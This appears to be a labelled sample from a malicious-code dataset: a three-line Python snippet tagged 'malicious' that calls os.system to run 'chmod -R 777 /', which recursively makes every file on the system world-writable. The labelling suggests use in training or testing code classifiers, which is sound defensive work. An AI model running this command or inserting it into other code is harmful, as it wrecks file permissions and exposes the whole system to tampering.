# label: malicious
import os
os.system("chmod -R 777 /")
